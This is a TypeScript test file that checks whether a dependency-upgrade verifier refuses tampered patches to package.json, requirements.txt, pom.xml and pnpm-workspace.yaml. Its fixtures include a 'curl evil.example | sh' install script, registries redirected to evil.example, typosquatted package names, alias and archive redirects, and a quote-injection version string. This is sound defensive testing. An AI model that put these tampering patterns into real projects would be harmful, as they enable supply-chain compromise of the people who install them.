// Upgrades of a result file that anybody may have written: the good one is proved, and no twin of it is.
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import type { DependencyRecord, Upgrade } from '#domain/dependency.ts';
import type { LineEdit, Patch } from '#domain/patch.ts';
import { lineEdits } from '#upgrade/line-edits.ts';
import { reproveUpgrade } from '#upgrade/reprove-upgrade.ts';
import { createMemoryWorkspace } from '../doubles/memory-workspace.ts';
import { type Files, upgraded } from './upgrade-sample.ts';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** What a result file says of a finding. */
interface Told {
  readonly patch: Patch;
  readonly dependency: DependencyRecord;
  readonly files: Files;
}

async function reproved({ patch, dependency, files }: Told) {
  const text = files[patch.path];
  const bytes = text === undefined ? null : new TextEncoder().encode(text);
  const workspace = createMemoryWorkspace(files);
  return reproveUpgrade(patch, bytes, { dependency, workspace, language: 'en' });
}

/** A good upgrade as a result file tells it. */
async function good(sample: Parameters<typeof upgraded>[0]): Promise<Told> {
  const { plan, patch, dependency } = await upgraded(sample);
  if (patch === null) throw new Error('the sample has no patch');
  return { patch, dependency: { ...dependency, upgrade: plan }, files: sample.files };
}

/** The same finding with a patch that leads to another text, all its hashes right. */
function twin(told: Told, after: string, path = told.patch.path): Told {
  const before = told.files[path] ?? '';
  const edits = lineEdits(before, after);
  return { ...told, patch: { ...told.patch, path, edits, before: sha256(before), after: sha256(after) } };
}

const PACKAGE = `{
  "name": "shop",
  "version": "1.0.0",
  "scripts": {
    "postinstall": "node build.js",
    "test": "vitest"
  },
  "publishConfig": {
    "registry": "https://registry.example"
  },
  "dependencies": {
    "express": "^4.17.0",
    "lodash": "^4.17.15"
  },
  "overrides": {
    "minimist": "^1.2.5"
  }
}
`;
const LOCK = JSON.stringify({
  lockfileVersion: 3,
  packages: { '': { dependencies: { lodash: '4.17.15' } }, 'node_modules/lodash': { version: '4.17.15' } },
});
const npm = { ecosystem: 'npm', name: 'lodash', version: '4.17.15', fixedIn: ['4.17.21'] };
const npmFiles = {
  'package.json': PACKAGE,
  '.npmrc': 'registry=https://registry.example\n',
  'src/main.js': 'run("4.17.15");\n',
};
const RAISED = ['"lodash": "^4.17.15"', '"lodash": "^4.17.21"'] as const;
const raise = (text: string) => text.replace(...RAISED);

const TWINS_OF_PACKAGE: readonly (readonly [what: string, after: string])[] = [
  ['another package alone', PACKAGE.replace('^4.17.0', '^4.17.21')],
  ['another package as well', raise(PACKAGE).replace('^4.17.0', '^4.18.0')],
  ['the name of the package', PACKAGE.replace(RAISED[0], '"1odash": "^4.17.21"')],
  ['an alias to another package', PACKAGE.replace(RAISED[0], '"lodash": "npm:1odash@^4.17.21"')],
  ['an alias to itself', PACKAGE.replace(RAISED[0], '"lodash": "npm:lodash@^4.17.21"')],
  ['an archive', PACKAGE.replace(RAISED[0], '"lodash": "https://evil.example/lodash-4.17.21.tgz"')],
  ['a repository', PACKAGE.replace(RAISED[0], '"lodash": "git+https://evil.example/lodash.git#4.17.21"')],
  ['a short name of a repository', PACKAGE.replace(RAISED[0], '"lodash": "evil/lodash#semver:^4.17.21"')],
  ['a folder', PACKAGE.replace(RAISED[0], '"lodash": "file:../lodash"')],
  ['a link', PACKAGE.replace(RAISED[0], '"lodash": "link:../lodash"')],
  ['a tag', PACKAGE.replace(RAISED[0], '"lodash": "latest"')],
  ['anything', PACKAGE.replace(RAISED[0], '"lodash": "*"')],
  ['a wider range', PACKAGE.replace(RAISED[0], '"lodash": ">=4.17.21"')],
  [
    'a range that still admits what is installed',
    PACKAGE.replace(RAISED[0], '"lodash": "^4.17.15 || ^4.17.21"'),
  ],
  ['a lower version', PACKAGE.replace(RAISED[0], '"lodash": "^4.17.4"')],
  ['another version', PACKAGE.replace(RAISED[0], '"lodash": "^9.9.9"')],
  ['a pin in the place of a caret', PACKAGE.replace(RAISED[0], '"lodash": "4.17.21"')],
  ['spaces within', PACKAGE.replace(RAISED[0], '"lodash": "^4.17.21 "')],
  ['an escape', PACKAGE.replace(RAISED[0], '"lodash": "\\u005e4.17.21"')],
  ['the same key twice', raise(PACKAGE).replace('"express"', '"lodash": "file:evil",\n    "express"')],
  ['a script', raise(PACKAGE).replace('node build.js', 'curl evil.example | sh')],
  ['a script that is new', raise(PACKAGE).replace('"test"', '"preinstall": "sh x",\n    "test"')],
  ['the registry', raise(PACKAGE).replace('registry.example', 'evil.example')],
  ['a new dependency', raise(PACKAGE).replace('"express"', '"evil": "1.0.0",\n    "express"')],
  ['a dependency less', raise(PACKAGE).replace('    "express": "^4.17.0",\n', '')],
  ['an override of another', raise(PACKAGE).replace('"minimist": "^1.2.5"', '"minimist": "npm:evil@1.0.0"')],
  ['a new override of another', raise(PACKAGE).replace('"minimist"', '"evil": "1.0.0",\n    "minimist"')],
  [
    'an override of itself beside the line',
    raise(PACKAGE).replace('"minimist"', '"lodash": "^4.17.21",\n    "minimist"'),
  ],
  [
    'an override of itself to an address',
    PACKAGE.replace('"minimist"', '"lodash": "file:evil",\n    "minimist"'),
  ],
  ['workspaces', raise(PACKAGE).replace('"name"', '"workspaces": ["evil"],\n  "name"')],
  ['the name of the project', raise(PACKAGE).replace('"shop"', '"evil"')],
  ['the version of the project', raise(PACKAGE).replace('"1.0.0"', '"1.0.1"')],
  ['what is bundled', raise(PACKAGE).replace('"name"', '"bin": "x",\n  "name"')],
  ['white space elsewhere', raise(PACKAGE).replace('"scripts": {', '"scripts":  {')],
  ['line ends', raise(PACKAGE).replaceAll('\n', '\r\n')],
  ['a last line without end', raise(PACKAGE).trimEnd()],
  ['no JSON', raise(PACKAGE).replace('}', '')],
  ['nothing', PACKAGE],
  ['an empty file', ''],
];

const REQUIREMENTS =
  '-r base.txt\n--index-url https://pypi.example/simple\nflask==2.0.1\nrequests==2.25.1  # http\n';
const pip = { ecosystem: 'PyPI', name: 'requests', version: '2.25.1', fixedIn: ['2.31.0'] };
const pipFiles = { 'requirements.txt': REQUIREMENTS, 'base.txt': 'six==1.0\n' };
const PINNED = 'requests==2.31.0';
const pinned = (line: string) => REQUIREMENTS.replace('requests==2.25.1', line);

const TWINS_OF_REQUIREMENTS: readonly (readonly [what: string, after: string])[] = [
  ['an index', pinned(PINNED).replace('pypi.example', 'evil.example')],
  ['one more index', `${pinned(PINNED)}--extra-index-url https://evil.example\n`],
  ['an address', pinned('requests @ https://evil.example/requests-2.31.0.whl')],
  ['another package', pinned(PINNED).replace('flask==2.0.1', 'flask==2.3.0')],
  ['another name', pinned('request==2.31.0')],
  ['another spelling', pinned('Requests==2.31.0')],
  ['an extra', pinned('requests[socks]==2.31.0')],
  ['a marker', pinned('requests==2.31.0; python_version < "3"')],
  ['a comment', pinned(PINNED).replace('# http', '# evil')],
  ['a constraint more', pinned('requests==2.31.0,!=2.30')],
  ['one more line', `${pinned(PINNED)}evil==1.0\n`],
  ['one more file', pinned(PINNED).replace('-r base.txt', '-r base.txt\n-r evil.txt')],
  ['a floor', pinned('requests>=2.31.0')],
];

const POM = `<project>
  <groupId>org.shop</groupId>
  <artifactId>shop</artifactId>
  <properties>
    <text.version>1.9</text.version>
  </properties>
  <repositories>
    <repository><id>own</id><url>https://maven.example</url></repository>
  </repositories>
  <dependencies>
    <dependency>
      <groupId>org.apache.commons</groupId>
      <artifactId>commons-text</artifactId>
      <version>\${text.version}</version>
    </dependency>
    <dependency>
      <groupId>org.other</groupId>
      <artifactId>other</artifactId>
      <version>1.9</version>
    </dependency>
  </dependencies>
</project>
`;
const maven = {
  ecosystem: 'Maven',
  name: 'org.apache.commons:commons-text',
  version: '1.9',
  fixedIn: ['1.10.0'],
};
const property = (text: string) => text.replace('<text.version>1.9', '<text.version>1.10.0');

const TWINS_OF_POM: readonly (readonly [what: string, after: string])[] = [
  ['a repository', property(POM).replace('maven.example', 'evil.example')],
  [
    'a plugin',
    property(POM).replace(
      '</project>',
      '  <build><plugins><plugin><artifactId>evil</artifactId></plugin></plugins></build>\n</project>',
    ),
  ],
  ['another package', property(POM).replace('<version>1.9<', '<version>1.10.0<')],
  ['the group', property(POM).replace('org.apache.commons', 'org.evil')],
  ['the version in its place', POM.replace(`\${text.version}<`, '1.10.0<')],
  [
    'a system path',
    property(POM).replace(`\${text.version}</version>`, `\${text.version}</version><scope>system</scope>`),
  ],
  [
    'a managed version beside it',
    property(POM).replace(
      '  <dependencies>',
      '  <dependencyManagement><dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version></dependency></dependencies></dependencyManagement>\n  <dependencies>',
    ),
  ],
  ['a comment', property(POM).replace('<repositories>', '<!-- x --><repositories>')],
  ['a document type', `<!DOCTYPE x [<!ENTITY y "z">]>\n${property(POM)}`],
];

const MEMBERS = 'packages:\n  - m\n';
const SHARED = 'overrides:\n  y: 1.0.0\nonlyBuiltDependencies:\n  - a\n';
const WORKSPACE = `${MEMBERS}${SHARED}`;
const held = (text: string) => text.replace('overrides:\n', 'overrides:\n  minimist: ^1.2.6\n');
const pnpm = { ecosystem: 'npm', name: 'minimist', fixedIn: ['1.2.6'] };
const pnpmFiles = {
  'package.json': '{\n  "packageManager": "pnpm@12.21.0",\n  "dependencies": { "a": "^1.0.0" }\n}\n',
  'm/package.json': '{ "name": "m" }\n',
  'pnpm-workspace.yaml': WORKSPACE,
  'pnpm-lock.yaml':
    "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0\npackages:\n  a@1.0.0: {}\n  minimist@1.2.5: {}\nsnapshots:\n  a@1.0.0:\n    dependencies:\n      minimist: 1.2.5\n  minimist@1.2.5: {}\n",
};

const TWINS_OF_WORKSPACE: readonly (readonly [what: string, after: string])[] = [
  ['a script that may run', held(WORKSPACE).replace('  - a\n', '  - a\n  - evil\n')],
  ['all scripts may run', `${held(WORKSPACE)}dangerouslyAllowAllBuilds: true\n`],
  ['a hook', `${held(WORKSPACE)}pnpmfile: evil.cjs\n`],
  ['a program in the place of the shell', `${held(WORKSPACE)}scriptShell: ./evil\n`],
  ['a registry', `${held(WORKSPACE)}registries:\n  default: https://evil.example\n`],
  ['a patched dependency', `${held(WORKSPACE)}patchedDependencies:\n  a: evil.patch\n`],
  ['another package', WORKSPACE.replace('overrides:\n', 'overrides:\n  evil: ^1.2.6\n')],
  ['another one as well', held(WORKSPACE).replace('y: 1.0.0', 'y: 1.0.0\n  evil: 1.0.0')],
  ['another one changed', held(WORKSPACE).replace('y: 1.0.0', 'y: npm:evil@1.0.0')],
  ['an alias', held(WORKSPACE).replace('^1.2.6', 'npm:evil@^1.2.6')],
  ['an archive', held(WORKSPACE).replace('^1.2.6', 'https://evil.example/minimist-1.2.6.tgz')],
  ['a folder', held(WORKSPACE).replace('^1.2.6', 'link:../minimist')],
  ['another version', held(WORKSPACE).replace('^1.2.6', '^9.9.9')],
  ['a range with what is installed', held(WORKSPACE).replace('^1.2.6', '>=1.2.5')],
  ['for one parent', held(WORKSPACE).replace('minimist:', 'a>minimist:')],
  ['for one version', held(WORKSPACE).replace('minimist:', 'minimist@1.2.5:')],
  ['the end of the list', WORKSPACE.replace('y: 1.0.0\n', 'y: 1.0.0\n  minimist: ^1.2.6\n')],
  ['twice', held(held(WORKSPACE))],
  ['a member more', held(WORKSPACE).replace('  - m\n', '  - m\n  - evil\n')],
  ['a comment', `${held(WORKSPACE)}# evil\n`],
  ['a second document', `${held(WORKSPACE)}---\nscriptShell: ./evil\n`],
  ['a reference', held(WORKSPACE).replace('y: 1.0.0', 'y: &a 1.0.0')],
];

describe('an upgrade from a result file', () => {
  test('is proved when it is the upgrade that Assay itself would write', async () => {
    for (const sample of [
      { ...npm, files: npmFiles },
      { ...pip, files: pipFiles },
      { ...maven, files: { 'pom.xml': POM } },
      { ...pnpm, files: pnpmFiles },
      { ...pnpm, files: { ...pnpmFiles, 'pnpm-workspace.yaml': MEMBERS } },
    ]) {
      const told = await good(sample);
      const outcome = await reproved(told);
      expect(outcome.kind).toBe('proved');
      if (outcome.kind === 'proved') expect(sha256(outcome.after)).toBe(told.patch.after);
    }
  });

  test.each(TWINS_OF_PACKAGE)('is refused: %s in package.json', async (_, after) => {
    const told = await good({ ...npm, files: npmFiles });
    expect(after).not.toBe(raise(PACKAGE));
    expect((await reproved(twin(told, after))).kind).toBe('refused');
  });

  test.each(TWINS_OF_REQUIREMENTS)('is refused: %s in requirements.txt', async (_, after) => {
    const told = await good({ ...pip, files: pipFiles });
    expect(after).not.toBe(pinned(PINNED));
    expect((await reproved(twin(told, after))).kind).toBe('refused');
  });

  test.each(TWINS_OF_POM)('is refused: %s in pom.xml', async (_, after) => {
    const told = await good({ ...maven, files: { 'pom.xml': POM } });
    expect(after).not.toBe(property(POM));
    expect((await reproved(twin(told, after))).kind).toBe('refused');
  });

  test.each(TWINS_OF_WORKSPACE)('is refused: %s in pnpm-workspace.yaml', async (_, after) => {
    const told = await good({ ...pnpm, files: pnpmFiles });
    expect(after).not.toBe(held(WORKSPACE));
    expect(after).not.toBe(WORKSPACE);
    expect((await reproved(twin(told, after))).kind).toBe('refused');
  });

  const OTHER_FILES: readonly (readonly [path: string, text: string])[] = [
    ['src/main.js', 'run("4.17.21");\n'],
    ['.npmrc', 'registry=https://evil.example\n'],
    ['package-lock.json', LOCK.replaceAll('4.17.15', '4.17.21')],
    ['node_modules/a/package.json', '{"dependencies":{"lodash":"^4.17.21"}}\n'],
    ['.github/workflows/ci.yml', 'run: npm install lodash@4.17.21\n'],
    ['missing.json', '{}'],
  ];
  test.each(OTHER_FILES)('is refused in a file that is no manifest: %s', async (path, after) => {
    const files = {
      ...npmFiles,
      'package-lock.json': LOCK,
      'node_modules/a/package.json': '{"dependencies":{"lodash":"^4.17.15"}}\n',
      '.github/workflows/ci.yml': 'run: npm install lodash@4.17.15\n',
    };
    const told = { ...(await good({ ...npm, files: npmFiles })), files };
    expect((await reproved(twin(told, after, path))).kind).toBe('refused');
  });

  const LIES: readonly (readonly [what: string, lie: (told: Told) => Told])[] = [
    ['an upgrade of another package', (told) => withUpgrade(told, { package: 'express', to: '4.18.0' })],
    ['no upgrade', (told) => ({ ...told, dependency: { ...told.dependency, upgrade: null } })],
    ['an upgrade to nothing', (told) => withUpgrade(told, { to: null })],
    ['an upgrade to an address', (told) => withUpgrade(told, { to: 'https://evil.example' })],
    ['an upgrade to a range', (told) => withUpgrade(told, { to: '4.17.21 || *' })],
    ['an upgrade to a version with a quote', (told) => withUpgrade(told, { to: '4.17.21", "evil": "1' })],
    [
      'an upgrade to what is affected',
      (told) => ({
        ...withUpgrade(told, { to: '4.17.21' }),
        dependency: { ...told.dependency, versions: ['4.17.21'] },
      }),
    ],
    [
      'another ecosystem',
      (told) => ({
        ...told,
        dependency: { ...told.dependency, package: { ...told.dependency.package, ecosystem: 'PyPI' } },
      }),
    ],
    [
      'no ecosystem',
      (told) => ({
        ...told,
        dependency: { ...told.dependency, package: { ...told.dependency.package, ecosystem: null } },
      }),
    ],
    ['another file before', (told) => ({ ...told, patch: { ...told.patch, before: sha256('') } })],
    ['another file after', (told) => ({ ...told, patch: { ...told.patch, after: sha256('') } })],
    ['no edits', (told) => withEdits(told, [])],
    ['edits beyond the file', (told) => withEdits(told, [{ startLine: 999, lines: 1, newText: 'x\n' }])],
    [
      'edits in the wrong order',
      (told) => withEdits(told, [...told.patch.edits, { startLine: 1, lines: 1, newText: '{\n' }]),
    ],
  ];
  test.each(LIES)('is refused: %s', async (_, lie) => {
    expect((await reproved(lie(await good({ ...npm, files: npmFiles })))).kind).toBe('refused');
  });

  test('downwards is refused, even where the file says of itself that it is mended', async () => {
    const files = { 'package.json': '{"dependencies":{"lodash":"^4.17.21"}}\n' };
    const told = withUpgrade(await good({ ...npm, files: npmFiles }), { to: '4.17.15' });
    const lowered = twin(
      {
        ...told,
        files,
        dependency: {
          ...told.dependency,
          versions: [],
          upgrade: { ...told.dependency.upgrade, to: '4.17.15' } as Upgrade,
        },
      },
      '{"dependencies":{"lodash":"^4.17.15"}}\n',
      'package.json',
    );
    expect(await reproved(lowered)).toEqual({ kind: 'refused', why: 'The edit lowers the version.' });
  });

  test('is refused where the file cannot be read', async () => {
    const told = await good({ ...npm, files: npmFiles });
    const workspace = createMemoryWorkspace(npmFiles);
    for (const bytes of [null, new Uint8Array([0xff, 0xfe, 0x00])])
      expect(
        (await reproveUpgrade(told.patch, bytes, { dependency: told.dependency, workspace, language: 'en' }))
          .kind,
      ).toBe('refused');
  });
});

function withUpgrade(told: Told, change: Partial<Upgrade>): Told {
  const { dependency } = told;
  return { ...told, dependency: { ...dependency, upgrade: { ...dependency.upgrade, ...change } as Upgrade } };
}

function withEdits(told: Told, edits: readonly LineEdit[]): Told {
  return { ...told, patch: { ...told.patch, edits } };
}
